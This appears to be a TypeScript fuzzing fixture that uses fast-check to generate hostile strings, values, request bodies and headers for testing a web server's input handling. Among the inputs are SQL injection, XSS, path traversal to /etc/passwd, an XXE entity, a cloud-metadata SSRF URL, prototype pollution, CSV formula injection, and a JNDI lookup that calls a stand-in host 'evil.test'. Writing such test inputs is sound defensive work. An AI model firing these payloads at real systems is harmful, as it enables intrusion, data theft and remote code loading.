import fc from 'fast-check';

/** Larger than every field, smaller than the limit of a body. */
const LONG = 'x'.repeat(20_000);
/** Larger than the limit of a body (256 kB). */
const TOO_LONG = 'y'.repeat(300_000);

/** Texts that are known to break programs, each for a different reason. */
const hostileTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\r\nX-Injected: 1',
  '\u001b[31m',
  '${7*7}',
  '{{7*7}}',
  "' OR '1'='1",
  "1'; DROP TABLE users; --",
  '1 AND SLEEP(5)',
  '%',
  '_',
  '\\',
  '"',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '1e309',
  '-1',
  '0',
  '99999999999999999999',
  '٣',
  '①',
  '\ud800',
  '\u202etxt.exe',
  'é'.normalize('NFD'),
  'İstanbul',
  '👩‍👩‍👧‍👦'.repeat(20),
  'ఆంధ్ర ప్రదేశ్',
  '2026-02-30',
  '2026-13-01T25:61:61Z',
  '0000-00-00',
  '+275760-09-13T00:00:00.001Z',
  'a@b',
  '"a@evil.test x"@academy.test',
  'a@academy.test\nbcc: b@evil.test',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV'.toLowerCase(),
  'ORD-0000-0000',
  'a'.repeat(256),
  'ﷺ'.repeat(500),
];

export const hostileText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...hostileTexts), weight: 8 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 80 }), weight: 3 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }), weight: 2 },
    { arbitrary: fc.constant(LONG), weight: 1 },
  );

/** Larger than the limits of headers and bodies. */
export const oversizedText = (): fc.Arbitrary<string> => fc.constant(TOO_LONG);

/** A value of any type, where the description has a different type. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { arbitrary: hostileText(), weight: 6 },
    {
      arbitrary: fc.constantFrom(
        null,
        true,
        false,
        0,
        -0,
        -1,
        1.5,
        2 ** 31,
        2 ** 53,
        -(2 ** 63),
        1e21,
        1e308,
      ),
      weight: 3,
    },
    { arbitrary: fc.array(hostileText(), { maxLength: 3 }), weight: 2 },
    {
      arbitrary: fc.constantFrom({}, [], [[]], [null], { $gt: '' }, { $ne: null }, { length: 1e9 }),
      weight: 3,
    },
    { arbitrary: fc.constant(Array.from({ length: 1_000 }, (_, index) => index)), weight: 1 },
    { arbitrary: fc.jsonValue({ maxDepth: 4 }), weight: 2 },
  );

const nestedArrays = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

/** Bodies that are not JSON, or unusual JSON. */
export const hostileBodies: readonly string[] = [
  '',
  '{',
  '[]',
  'null',
  'true',
  '"text"',
  '1e309',
  '{"a":1e309}',
  '{"a":1,"a":2}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  nestedArrays(5_000),
  `{"a":${nestedArrays(5_000)}}`,
  '\ufeff{}',
  'a=1&b=2',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  'name,price\n"unclosed',
  'email,name\n=cmd|calc,"a\u0000b"\n',
];

/** Headers that a client may send and a server must tolerate. */
export const hostileHeaders: readonly Record<string, string>[] = [
  {},
  { 'content-type': 'text/plain' },
  { 'content-type': 'application/json; charset=utf-16' },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'content-type': 'multipart/form-data' },
  { 'content-type': 'multipart/form-data; boundary=' },
  { 'content-type': 'multipart/form-data; boundary=x; boundary=y' },
  { 'content-type': '/' },
  { 'content-encoding': 'gzip' },
  { accept: 'text/html' },
  { accept: '*/*;q=0' },
  { 'accept-encoding': 'br;q=0, gzip;q=abc' },
  { 'accept-language': `${'te-IN,'.repeat(500)}en` },
  { range: 'bytes=9-1' },
  { range: 'bytes=0-0,5-,-9999999999999999' },
  { 'if-none-match': '"', 'if-modified-since': 'yesterday' },
  { 'idempotency-key': 'x'.repeat(5_000) },
  { 'idempotency-key': "' OR 1=1 --" },
  { 'x-request-id': '${jndi:ldap://evil.test/a}' },
  { 'x-forwarded-for': '::1, evil', 'x-forwarded-host': 'evil.test', 'x-forwarded-proto': 'javascript' },
  { host: 'evil.test' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-user-id': '1', 'x-user-role': 'admin' },
  { cookie: `${'a=b; '.repeat(300)}=; __Host-session=%00; auth_token="` },
  { 'last-event-id': '-1' },
  { 'user-agent': `"><script>${'x'.repeat(2_000)}` },
];
